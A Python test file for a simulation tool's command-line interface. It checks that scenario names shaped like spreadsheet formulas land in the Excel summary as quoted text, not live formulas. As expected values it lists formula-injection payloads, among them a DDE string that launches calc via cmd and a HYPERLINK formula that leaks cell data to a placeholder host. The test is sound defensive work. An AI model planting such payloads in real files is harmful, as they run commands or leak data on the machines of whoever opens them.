"""Hostile or careless inputs beyond ``tests/bad_scenarios/``: files shared between analysts must
not attack their reader, a commit is all or nothing, and no input can hang or exhaust the
machine. The inputs that can be static files live in ``tests/adversarial/``; the rest (FIFOs,
devices, huge sparse files, concurrent runs, signals during the commit) are made here."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
import xarray as xr

from simengine.cli import main

ROOT = Path(__file__).resolve().parents[1]
ADV = Path(__file__).resolve().parent / "adversarial"
SMALL = ROOT / "tests" / "data" / "small.toml"


def _one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


# -- 1. the workbook holds text, never formulas ------------------------------------------------------
def test_workbook_has_no_formula_cells_for_names_that_look_like_formulas(tmp_path):
    out = tmp_path / "o"
    assert main(["run", str(ADV / "formula_names.toml"), "--draws", "300", "--out", str(out), "--quiet"]) == 0
    wb = openpyxl.load_workbook(out / "summary.xlsx")
    formulas, texts = 0, []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")
                                          and c.data_type != "s"):
                    formulas += 1
                if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    texts.append(c)
    assert formulas == 0
    shown = {c.value for c in texts}
    for name in ("=cmd|' /C calc'!A0", "=1+1", "-2+3", '=HYPERLINK("http://example.invalid/?leak="&A1,"København")',
                 "+Frederiksberg", "@Region Hovedstaden", "\tSelvbetjening 2"):
        assert name in shown, name  # kept as the scenario spells it ...
    assert all(c.quotePrefix for c in texts)  # ... with the quote prefix, so an edit does not evaluate it
